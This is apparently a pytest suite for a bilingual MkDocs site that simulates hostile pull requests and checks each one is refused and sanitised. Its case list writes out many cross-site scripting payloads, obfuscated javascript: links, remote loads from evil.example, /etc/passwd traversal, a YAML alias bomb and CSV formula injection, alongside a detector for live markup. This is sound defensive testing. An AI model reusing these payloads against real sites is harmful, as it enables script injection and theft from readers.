"""A hostile contributor's pull request, one attempt per case, in every family the safety issue lists.

For each case, on a small site (the rules fixture, with this project's mkdocs.yml, hooks and theme):
- the checker exits 1 and names the file and line, with no traceback;
- `mkdocs build -q` (no --strict, quiet) fails too, naming the same place, with no traceback;
- no file of the contribution is changed;
- and nothing live reaches a reader: every page, rendered and sanitised as the build publishes it,
  holds no script, handler, unsafe URL or remote resource, whatever the rules said.
"""
from __future__ import annotations

import hashlib
from html.parser import HTMLParser
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from conftest import FIXTURE, ROOT, edit

ZH_ART, EN_ART = "docs/zh/articles/alpha-2025.md", "docs/en/articles/alpha-2025.md"
ZH_LITHO, EN_LITHO = "docs/zh/domains/litho.md", "docs/en/domains/litho.md"
SOURCES, LEDGER, TAXONOMY, GLOSSARY = "data/sources.yml", "data/claims/alpha-2025.yml", "data/taxonomy.yml", \
    "data/glossary.yml"
GLOSSARY_OK = ("- id: euv\n  term: {zh: 极紫外光刻, en: EUV lithography}\n  tooltip: {zh: [], en: [EUV]}\n"
               "  definition: {zh: 用极紫外光刻制电路。, en: Lithography with extreme-ultraviolet light.}\n")
ZH_BODY, EN_BODY = "光刻。", "Lithography."


def body(lang: str, new: str):
    """An edit that puts `new` into the prose of a domain page, where "光刻。" / "Lithography." stand."""
    return (ZH_LITHO if lang == "zh" else EN_LITHO, ZH_BODY if lang == "zh" else EN_BODY, new)


# (id, edits, (path, line, rule)); an edit is (file, old, new) as in conftest.edit, or
# ("symlink", file, target) or ("bytes", file, content).
CASES = [
    # --- data fields become text, and markup in them is refused --------------------------------
    ("source-title-script", [(SOURCES, "title: 光刻机的故事", "title: 光刻机<script>alert(1)</script>")], (SOURCES, 3, "ATL701")),
    ("source-title-en-closes-cell", [(SOURCES, "title_en: The Story", "title_en: </td><script>alert(1)</script>The Story")],
     (SOURCES, 4, "ATL701")),
    ("source-outlet-handler", [(SOURCES, "outlet: 测试日报", "outlet: <img src=x onerror=alert(1)>")], (SOURCES, 5, "ATL701")),
    ("source-outlet-en-svg", [(SOURCES, "outlet_en: Test Daily", "outlet_en: <svg/onload=alert(1)>")], (SOURCES, 6, "ATL701")),
    ("source-author-markup", [(SOURCES, "authors: [张三]", "authors: [\"张三<b onmouseover=alert(1)>\"]")], (SOURCES, 7, "ATL701")),
    ("source-author-breaks-cite-fence", [(SOURCES, "authors: [张三]", "authors: [\"张三\\n```\\n<script>alert(1)</script>\"]")],
     (SOURCES, 7, "ATL103")),
    ("source-date-basis", [(SOURCES, "basis: {zh: 文中注明。", "basis: {zh: \"<script>alert(1)</script>\"")], (SOURCES, 11, "ATL701")),
    ("source-url-javascript", [(SOURCES, "url: null", "url: \"javascript:alert(1)\"")], (SOURCES, 13, "ATL103")),
    ("source-url-closes-attribute", [(SOURCES, "url: null", "url: 'https://example.org/\" onmouseover=\"alert(1)'")],
     (SOURCES, 13, "ATL103")),
    ("source-url-http", [(SOURCES, "url: null", "url: http://example.org/")], (SOURCES, 13, "ATL103")),
    ("source-url-data", [(SOURCES, "url: null", "url: \"data:text/html,<script>alert(1)</script>\"")], (SOURCES, 13, "ATL103")),
    ("source-notes-iframe", [(SOURCES, "notes: null", "notes: {zh: \"<iframe src=https://evil.example/>\", en: ok}")],
     (SOURCES, 17, "ATL701")),
    ("source-short-en", [(SOURCES, "notes: null", "notes: null\n  short: {zh: 测试, en: \"<script>alert(1)</script>\"}")],
     (SOURCES, 18, "ATL701")),
    ("claim-zh-script", [(LEDGER, "zh: 文章称，全球只有", "zh: <script>alert(1)</script>文章称，全球只有")], (LEDGER, 5, "ATL701")),
    ("claim-en-img", [(LEDGER, "en: The article says only", "en: <img src=x onerror=alert(1)>The article says only")],
     (LEDGER, 6, "ATL701")),
    ("claim-en-markdown-link", [(LEDGER, "build EUV lithography machines.", "build EUV [lithography](javascript:alert(1)) machines.")],
     (LEDGER, 6, "ATL701")),
    ("claim-cited-anchor", [(LEDGER, "cited: null", "cited: {zh: \"<a href=javascript:alert(1)>x</a>\", en: x}")],
     (LEDGER, 7, "ATL701")),
    ("claim-chart-label", [(LEDGER, "    topic: euv\n", "    topic: euv\n    chart: {value: 5, side: domestic, label: "
                                                       "{zh: 份额, en: \"<script>alert(1)</script>\"}}\n")],
     (LEDGER, 11, "ATL701")),
    ("claim-csv-formula", [(LEDGER, "en: The article says only", "en: =HYPERLINK(1) The article says only")],
     (LEDGER, 6, "ATL701")),
    ("claim-uncertain-note", [(LEDGER, "    topic: euv\n", "    topic: euv\n    uncertain: {note: {zh: \"<script>x</script>\", en: x}}\n")],
     (LEDGER, 11, "ATL701")),
    ("claim-control-character", [(LEDGER, "en: The article says only one company in the world can build EUV lithography machines.",
                                  "en: \"The article\\u0007 says only one company.\"")], (LEDGER, 6, "ATL103")),
    ("glossary-term-script", [(GLOSSARY, None, GLOSSARY_OK.replace("en: EUV lithography}", "en: \"<script>alert(1)</script>\"}"))],
     (GLOSSARY, 2, "ATL701")),
    ("glossary-tooltip-form", [(GLOSSARY, None, GLOSSARY_OK.replace("en: [EUV]", "en: [\"EUV<b>\"]"))], (GLOSSARY, 3, "ATL701")),
    ("glossary-definition-markup", [(GLOSSARY, None, GLOSSARY_OK.replace("en: Lithography with", "en: <img src=x>Lithography with"))],
     (GLOSSARY, 4, "ATL103")),
    ("taxonomy-category-name", [(TAXONOMY, "zh: 半导体", "zh: \"半导体<script>alert(1)</script>\"")], (TAXONOMY, 2, "ATL701")),
    ("taxonomy-topic-name", [(TAXONOMY, "en: EUV lithography", "en: \"<img src=x onerror=alert(1)>\"")], (TAXONOMY, 4, "ATL701")),
    ("taxonomy-topic-note-script", [(TAXONOMY, "en: EUV lithography}", "en: EUV lithography, note: {zh: \"<script>alert(1)</script>\", en: x}}")],
     (TAXONOMY, 4, "ATL701")),
    ("taxonomy-topic-note-js-link", [(TAXONOMY, "en: EUV lithography}", "en: EUV lithography, note: {zh: 说明, en: \"[x](javascript:alert(1))\"}}")],
     (TAXONOMY, 4, "ATL701")),
    # --- front matter never reaches <head> as markup; only the schema's keys ---------------------
    ("zh-title-script", [(ZH_LITHO, "title: 光刻", "title: 光刻<script>alert(1)</script>")], (ZH_LITHO, 2, "ATL103")),
    ("en-title-closes-tag", [(EN_LITHO, "title: Lithography", "title: \"</title><script>alert(1)</script>\"")], (EN_LITHO, 2, "ATL103")),
    ("en-description-attribute", [(EN_LITHO, "title: Lithography\n", "title: Lithography\ndescription: 'x\" onmouseover=\"alert(1)'\n")],
     (EN_LITHO, 3, "ATL103")),
    ("zh-template-key", [(ZH_LITHO, "title: 光刻\n", "title: 光刻\ntemplate: ../../../../etc/passwd\n")], (ZH_LITHO, 3, "ATL104")),
    ("en-hooks-key", [(EN_ART, "source: alpha-2025\n", "source: alpha-2025\nhooks: [evil.py]\n")], (EN_ART, 4, "ATL104")),
    ("zh-search-value", [(ZH_LITHO, "title: 光刻\n", "title: 光刻\nsearch: {exclude: \"<script>\"}\n")], (ZH_LITHO, 3, "ATL103")),
    ("en-alias-markup", [(EN_LITHO, "aliases: [EUV]", "aliases: [\"<img src=x onerror=alert(1)>\"]")], (EN_LITHO, 4, "ATL701")),
    # --- Markdown the old patterns did not see: judged as rendered HTML --------------------------
    ("zh-attr-list-paragraph", [body("zh", "光刻。\n{: onclick=\"alert(1)\" }")], (ZH_LITHO, 13, "ATL701")),
    ("en-attr-list-heading", [(EN_LITHO, "## What it is", "## What it is {: onmouseover=alert(1) }")], (EN_LITHO, 10, "ATL701")),
    ("zh-attr-list-image", [body("zh", "![图](pic.png){: onerror=\"alert(1)\" }")], (ZH_LITHO, 12, "ATL701")),
    ("en-svg-onload", [body("en", "<svg/onload=alert(1)>")], (EN_LITHO, 12, "ATL701")),
    ("zh-tag-split-over-lines", [body("zh", "<img\nsrc=x onerror=alert(1)>")], (ZH_LITHO, 13, "ATL701")),
    ("en-entity-encoded-scheme", [body("en", "[x](&#106;avascript:alert(1))")], (EN_LITHO, 12, "ATL701")),
    ("zh-tab-split-scheme", [body("zh", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>")], (ZH_LITHO, 12, "ATL701")),
    ("en-reference-definition", [body("en", "See [it][1].\n\n[1]: javascript:alert(1)")], (EN_LITHO, 14, "ATL701")),
    ("zh-form", [body("zh", "<form action=\"https://evil.example/\"><input name=q></form>")], (ZH_LITHO, 12, "ATL701")),
    ("en-meta-refresh", [body("en", "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">")], (EN_LITHO, 12, "ATL701")),
    ("zh-base", [body("zh", "<base href=\"https://evil.example/\">")], (ZH_LITHO, 12, "ATL701")),
    ("en-link-stylesheet", [body("en", "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">")], (EN_LITHO, 12, "ATL701")),
    ("zh-tracking-pixel", [body("zh", "![](https://evil.example/p.gif)")], (ZH_LITHO, 12, "ATL701")),
    ("en-remote-img-tag", [body("en", "<img src=\"//evil.example/p.gif\" alt=\"\">")], (EN_LITHO, 12, "ATL701")),
    ("zh-iframe", [body("zh", "<iframe src=\"https://evil.example/\"></iframe>")], (ZH_LITHO, 12, "ATL701")),
    ("en-object-embed", [body("en", "<object data=\"x.swf\"></object><embed src=\"x.swf\">")], (EN_LITHO, 12, "ATL701")),
    ("zh-style-element", [body("zh", "<style>body{display:none}</style>")], (ZH_LITHO, 12, "ATL701")),
    ("en-style-attribute", [body("en", "<div style=\"background:url(https://evil.example/x)\">x</div>")], (EN_LITHO, 12, "ATL701")),
    ("zh-details-ontoggle", [body("zh", "<details open ontoggle=alert(1)><summary>x</summary>y</details>")], (ZH_LITHO, 12, "ATL701")),
    ("en-data-url", [body("en", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)")], (EN_LITHO, 12, "ATL701")),
    ("zh-after-misread-fence", [body("zh", "~~~\n```\n~~~\n\n<script>alert(1)</script>")], (ZH_LITHO, 16, "ATL701")),
    ("en-script-in-article", [(EN_ART, "The article introduces", "<script>alert(1)</script>\n\nThe article introduces")],
     (EN_ART, 13, "ATL701")),
    ("zh-uppercase-script", [body("zh", "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>")], (ZH_LITHO, 12, "ATL701")),
    ("en-vbscript-link", [body("en", "<a href=\"vbscript:msgbox(1)\">x</a>")], (EN_LITHO, 12, "ATL701")),
    # --- only what we check is published ----------------------------------------------------------
    ("raw-html-file", [("docs/zh/evil.html", None, "<script>alert(1)</script>")], ("docs/zh/evil.html", 1, "ATL703")),
    ("raw-svg-file", [("docs/en/evil.svg", None, "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>")],
     ("docs/en/evil.svg", 1, "ATL703")),
    ("markdown-suffix-page", [("docs/zh/evil.markdown", None, "---\ntitle: x\n---\n<script>alert(1)</script>\n")],
     ("docs/zh/evil.markdown", 1, "ATL703")),
    ("page-name-with-spaces", [("docs/en/Evil Page.md", None, "---\ntitle: x\n---\nx\n")], ("docs/en/Evil Page.md", 1, "ATL703")),
    ("symlink-page-out-of-repo", [("symlink", "docs/en/leak.md", "/etc/hostname")], ("docs/en/leak.md", 1, "ATL703")),
    ("symlink-folder-out-of-repo", [("symlink", "docs/zh/etc", "/etc")], ("docs/zh/etc", 1, "ATL703")),
    ("snippet-include-data", [body("zh", "--8<-- \"data/sources.yml\"")], (ZH_LITHO, 12, "ATL704")),
    ("snippet-include-absolute", [body("en", "--8<-- \"/etc/passwd\"")], (EN_LITHO, 12, "ATL704")),
    # --- no input crashes or hangs: each is a located problem -------------------------------------
    ("empty-registry", [(SOURCES, None, "")], (SOURCES, 1, "ATL103")),
    ("registry-is-a-mapping", [(SOURCES, None, "alpha-2025: {kind: article}\n")], (SOURCES, 1, "ATL103")),
    ("registry-of-strings", [(SOURCES, None, "- alpha-2025\n- beta\n")], (SOURCES, 1, "ATL103")),
    ("ledger-of-unregistered-source", [("data/claims/ghost-2025.yml", None,
                                        "source: ghost-2025\nclaims:\n  - id: c001\n    quote: x\n    zh: 文章称 x。\n"
                                        "    en: The article says x.\n    cited: null\n    domains: [litho]\n    kind: fact\n")],
     ("data/claims/ghost-2025.yml", 1, "ATL501")),
    ("ledger-is-a-string", [(LEDGER, None, "just a string\n")], (LEDGER, 1, "ATL103")),
    ("yaml-alias-bomb", [(TAXONOMY, None, "a: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a]\n"
                                          "c: &c [*b, *b, *b, *b, *b, *b, *b, *b]\nd: [*c, *c, *c, *c, *c, *c, *c, *c]\n")],
     (TAXONOMY, 1, "ATL107")),
    ("yaml-nested-1000-deep", [(GLOSSARY, None, "[" * 1000 + "]" * 1000 + "\n")], (GLOSSARY, 1, "ATL107")),
    ("front-matter-nested-deep", [(ZH_LITHO, "title: 光刻\n", "title: 光刻\nsearch: " + "{a: " * 200 + "1" + "}" * 200 + "\n")],
     (ZH_LITHO, 3, "ATL107")),
    ("heading-of-spaces", [body("en", "#" + " " * 20000 + "x")], (EN_LITHO, 12, "ATL107")),
    ("line-of-brackets", [body("zh", "[" * 100000)], (ZH_LITHO, 12, "ATL107")),
    ("page-not-utf8", [("bytes", EN_LITHO, "---\ntitle: x\n---\n\xff\xfe".encode("latin-1"))], (EN_LITHO, 4, "ATL101")),
    # the registry mistakes a contributor makes first (issue 16): located, never a KeyError
    ("registry-unknown-genre", [(SOURCES, "genre: news-feature", "genre: newsfeature")], (SOURCES, 15, "ATL103")),
    ("registry-unknown-date-status", [(SOURCES, "status: stated", "status: said")], (SOURCES, 10, "ATL103")),
    ("registry-short-as-string", [(SOURCES, "notes: null", "notes: null\n  short: Test Daily")], (SOURCES, 18, "ATL103")),
]

class Live(HTMLParser):
    """Whatever in a page's markup would run, load from elsewhere or send the reader away."""

    BAD_TAGS = {"script", "iframe", "object", "embed", "form", "meta", "base", "link", "style", "svg", "math"}

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag in self.BAD_TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            value = re.sub(r"[\x00-\x20]", "", value or "").lower()
            if name.startswith("on") or name == "style":
                self.found.append(f"<{tag} {name}=>")
            if name in ("href", "src", "action", "xlink:href") and re.match(r"(javascript|vbscript|data):", value):
                self.found.append(f"<{tag} {name}={value[:30]}>")
            if name == "src" and (value.startswith("//") or re.match(r"[a-z]+:", value)):
                self.found.append(f"<{tag} src={value[:30]}>")


def live_markup(html: str) -> list[str]:
    parser = Live()
    parser.feed(html)
    return parser.found


def mini_site(dest: Path) -> Path:
    shutil.copytree(FIXTURE, dest)
    for name in ("mkdocs.yml", "scripts", "overrides", ".autocorrectrc"):
        src = ROOT / name
        (shutil.copytree if src.is_dir() else shutil.copy2)(src, dest / name)
    return dest


def apply(root: Path, edits) -> None:
    for e in edits:
        if e[0] == "symlink":
            (root / e[1]).symlink_to(e[2])
        elif e[0] == "bytes":
            (root / e[1]).write_bytes(e[2])
        else:
            edit(root, *e)


def contribution_hash(root: Path) -> str:
    h = hashlib.sha256()
    for path in sorted(list((root / "data").rglob("*")) + list((root / "docs").rglob("*"))):
        h.update(str(path.relative_to(root)).encode())
        if path.is_symlink():
            h.update(os.readlink(path).encode())
        elif path.is_file():
            h.update(path.read_bytes())
    return h.hexdigest()


def run(args, cwd, timeout=120):
    env = dict(os.environ, NO_MKDOCS_2_WARNING="1")
    return subprocess.run(args, cwd=cwd, capture_output=True, text=True, timeout=timeout, env=env)


def test_the_small_site_is_clean_and_builds(tmp_path):
    root = mini_site(tmp_path / "site")
    r = run([sys.executable, str(root / "scripts/check.py"), str(root), "--archive", str(root / "archive")], root)
    assert r.returncode == 0, r.stdout
    b = run([sys.executable, "-m", "mkdocs", "build", "-q", "-d", str(tmp_path / "out")], root)
    assert b.returncode == 0, b.stdout[-2000:] + b.stderr[-2000:]
    assert (tmp_path / "out" / "en" / "domains" / "litho" / "index.html").is_file()


@pytest.mark.parametrize("name,edits,expected", CASES, ids=[c[0] for c in CASES])
def test_hostile_contribution_is_refused_at_its_place(tmp_path, name, edits, expected):
    root = mini_site(tmp_path / "site")
    apply(root, edits)
    before = contribution_hash(root)
    path, line, rule = expected
    where = f"{path}:{line}:"

    r = run([sys.executable, str(root / "scripts/check.py"), str(root)], root)
    out = r.stdout + r.stderr
    assert r.returncode == 1 and "Traceback" not in out, out[-3000:]
    located = [l for l in r.stdout.splitlines() if l.startswith(where) and f" {rule} " in l]
    assert located, f"expected {where} {rule}, got:\n{r.stdout}"

    site_dir = tmp_path / "out"
    b = run([sys.executable, "-m", "mkdocs", "build", "-q", "-d", str(site_dir)], root)
    build_out = b.stdout + b.stderr
    assert b.returncode != 0 and "Traceback" not in build_out, build_out[-3000:]
    assert located[0] in build_out, f"the build does not name {located[0]!r}:\n{build_out[-3000:]}"
    assert not (site_dir / "index.html").exists(), "a failed build must not leave a site"
    assert contribution_hash(root) == before, "the checker or the build changed a file"


RENDERED = [c for c in CASES if not c[0].startswith(
    ("symlink", "yaml-", "empty-", "registry-", "ledger-", "page-not", "heading-of", "line-of", "front-matter-nested"))]


@pytest.mark.parametrize("name,edits,expected", RENDERED, ids=[c[0] for c in RENDERED])
def test_nothing_live_reaches_a_reader_whatever_the_rules_say(tmp_path, name, edits, expected):
    """The walls stand on their own: render every page as the build does (blocks from escaped
    data, Markdown with the site's configuration, the sanitiser) and look for anything live."""
    from atlas import markdown, render, sanitize
    from atlas.model import load_site

    root = mini_site(tmp_path / "site")
    apply(root, edits)
    site = load_site(root)
    for page in site.pages.values():
        html = markdown.to_html(site, render.page_markdown(site, page))
        assert html is not None
        in_body = any(e[1] in (ZH_BODY, EN_BODY, "## What it is", "The article introduces") for e in edits)
        if page.path == expected[0] and expected[2] == "ATL701" and in_body:
            # the attempt is live as Markdown renders it: it is the sanitiser that stops it
            assert live_markup(html), f"{name}: the attempt never reached the HTML, so this case tests nothing"
        published = sanitize.clean(html)  # charts are our own drawings, inserted after this
        assert live_markup(published) == [], f"{page.path}: {live_markup(published)} reaches the reader"


def test_csv_downloads_neutralise_formula_cells():
    from atlas.export import to_csv

    text = to_csv([{"en": "=HYPERLINK(\"https://evil.example\")"}, {"en": "+1"}, {"en": "@SUM(A1)"},
                   {"en": "-2+3"}, {"en": "\tx"}, {"en": "plain"}])
    rows = text.splitlines()[1:]
    assert rows[0].startswith("\"'=HYPERLINK") and rows[1] == "'+1" and rows[2] == "'@SUM(A1)"
    assert rows[3] == "'-2+3" and rows[4] == "'\tx" and rows[5] == "plain"
